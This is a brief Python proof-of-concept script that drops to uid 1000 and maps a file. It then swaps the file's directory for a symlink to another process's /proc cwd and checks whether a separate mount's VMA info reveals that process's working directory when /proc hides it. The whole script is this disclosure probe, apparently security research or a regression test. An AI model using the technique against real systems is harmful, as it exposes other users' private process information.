"""led_astray.py MOUNT FOLDER VICTIM: maps FOLDER/b/l/x, which then is deleted, while l leads to where the process VICTIM works.

As user 1000. Prints whether /proc hides where that is, and what the mount tells of the mapping.
"""

import mmap
import os
import re
import sys

mount, folder, victim = sys.argv[1:]
os.setgroups([])
os.setresgid(1000, 1000, 1000)
os.setresuid(1000, 1000, 1000)
os.makedirs(f"{folder}/b/l")
with open(f"{folder}/b/l/x", "w+b") as file:
    file.write(bytes(4096))
    file.flush()
    page = mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED)
os.link(f"{folder}/b/l/x", f"{folder}/d/x (deleted)")
os.unlink(f"{folder}/b/l/x")
os.rmdir(f"{folder}/b/l")
os.symlink(f"/proc/{victim}/cwd", f"{folder}/b/l")
with open("/proc/self/maps") as maps:
    start, end = next(line.split()[0].split("-") for line in maps if line.endswith("/x (deleted)\n"))
try:
    os.readlink(f"/proc/{victim}/cwd")
    hidden = False
except PermissionError:
    hidden = True
with open(f"{mount}/self/vma/{start.lstrip('0')}-{end.lstrip('0')}/info") as file:
    print((hidden, re.findall("^(?:Deleted|Name): .*", file.read(), re.MULTILINE)))
